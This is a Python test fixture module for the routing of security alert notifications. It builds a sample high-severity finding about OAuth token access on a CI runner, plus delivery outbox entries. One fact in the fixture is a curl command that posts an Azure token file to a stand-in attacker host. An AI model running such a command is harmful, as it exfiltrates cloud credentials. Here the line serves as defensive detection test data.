"""Notifications, entries and findings for the tests of `route`; override by keyword."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

from orchestrator.ids import EntryId, FindingId, derive_entry_id
from orchestrator.model.finding import ScorePart
from orchestrator.model.notification import (
    DeliveryState,
    Link,
    Notification,
    NotificationKind,
    OutboxEntry,
)
from orchestrator.model.rule import Severity
from orchestrator.units import parse_instant

NOW = parse_instant("2026-03-10T18:00:00Z")
FINDING = FindingId("a" * 32)
ENTRY = EntryId("e" * 32)


def make_notification(**changes: object) -> Notification:
    notification = Notification(
        finding_id=FINDING,
        revision=1,
        kind=NotificationKind.OPENED,
        rule="Steal application access token",
        headline="OAuth Token Cache Access on gh-runner-04",
        severity=Severity.HIGH,
        score=70,
        score_parts=(ScorePart(source="severity", points=50, reason="the rule says high"),),
        facts=(
            ("Host", "gh-runner-04"),
            ("Owner", "platform@example.com"),
            ("User", "ghrunner"),
            ("Process", "/usr/bin/curl"),
            ("Command line", "curl http://evil.example/x -d @/home/ghrunner/.azure/token.json"),
        ),
        why="pipeline: no job of this runner was active",
        first_seen=NOW - timedelta(minutes=5),
        last_seen=NOW,
        event_count=3,
        questions=("Does the tool own the file?",),
        next_steps=("Revoke the sessions of the account.",),
        links=(
            Link(label="Evidence in LogScale", url="https://logscale.example/r/search?a=1&b=2"),
        ),
        labels=("t1528_token_access", "T1528"),
    )
    return replace(notification, **changes)  # type: ignore[arg-type]  # checked at run time


def make_entry(
    *, receiver: str = "on-call", finding: str = "a" * 32, revision: int = 1, **changes: object
) -> OutboxEntry:
    kind = NotificationKind.OPENED if revision == 1 else NotificationKind.UPDATED
    entry = OutboxEntry(
        id=derive_entry_id(FindingId(finding), receiver=receiver, revision=revision),
        receiver=receiver,
        notification=make_notification(finding_id=FindingId(finding), revision=revision, kind=kind),
        state=DeliveryState.SENDING,
        attempts=1,
        next_attempt_at=NOW,
        epoch=1,
        lease_until=NOW + timedelta(minutes=5),
        created_at=NOW,
    )
    return replace(entry, **changes)  # type: ignore[arg-type]  # checked at run time
